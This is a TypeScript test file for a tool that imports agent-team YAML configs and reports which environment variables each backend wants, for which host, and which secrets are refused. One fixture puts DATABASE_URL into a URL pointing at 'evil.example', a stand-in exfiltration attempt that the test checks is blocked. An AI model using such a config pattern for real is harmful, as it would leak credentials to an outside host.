import { expect, test } from "vitest";
import { importMassgen } from "../../../src/teams/massgen/import-massgen.ts";
import { formatWanted } from "../../../src/teams/files/wanted-variables.ts";
import { read } from "./read.ts";

test("A file's variables are listed with the host that gets each, and what is missing", () => {
  const env = { PARLEY_TEAM_ENV: "XAI_API_KEY", XAI_API_KEY: "k", GROQ_API_KEY: "k" };
  const { wanted } = read(
    `agents:
  - id: a
    backend: { type: compatible, model: m, base_url: "https://api.x.ai/v1", api_key: "\${XAI_API_KEY}" }
    fallback: { type: compatible, model: m, base_url: "https://api.x.ai:8443", headers: { x-k: "\${XAI_API_KEY}" } }
  - id: b
    backend: { type: openai, model: m, api_key: "\${PARLEY_KEY_B}" }
  - id: c
    backend: { type: openai, model: m, base_url: "\${AZURE_URL}/v1", api_key: "\${GROQ_API_KEY}" }
  - id: d
    backend: { type: openai, model: m, base_url: "https://evil.example?\${DATABASE_URL}" }
`,
    env,
  );
  expect(formatWanted("teams/x.yaml", wanted, env)).toEqual([
    "teams/x.yaml wants XAI_API_KEY for api.x.ai (set)",
    "teams/x.yaml wants XAI_API_KEY for api.x.ai:8443 (set)",
    "teams/x.yaml wants PARLEY_KEY_B for its provider (not set)",
    "teams/x.yaml wants AZURE_URL for the address it stands in (not set, not listed in PARLEY_TEAM_ENV)",
    "teams/x.yaml wants GROQ_API_KEY for the address it stands in (not listed in PARLEY_TEAM_ENV)",
    "teams/x.yaml wants DATABASE_URL for the address it stands in (never given to a team file)",
  ]);
});

test("An import says which variables have to be set and listed, and leaves out what a provider's backend reads by itself", () => {
  const { yaml, notes } = importMassgen(`agents:
  - { id: a, backend: { type: grok, model: m } }
  - { id: b, backend: { type: openai, model: m, api_key: "\${OPENAI_API_KEY}" } }
  - { id: c, backend: { type: openai, model: m, base_url: "https://gateway.example/v1" } }
  - { id: d, backend: { type: groq, model: m, api_key: "\${SLACK_BOT_TOKEN}" } }
`);
  expect(notes).toEqual([
    "agent c: a provider's key goes only to its own host: set PARLEY_KEY_IMPORTED for https://gateway.example/v1",
    "the team file wants variables of the environment: set XAI_API_KEY, PARLEY_KEY_IMPORTED, and PARLEY_TEAM_ENV=XAI_API_KEY",
    "SLACK_BOT_TOKEN is never given to a team file: use another variable",
  ]);
  expect(yaml).not.toContain("OPENAI_API_KEY");
});
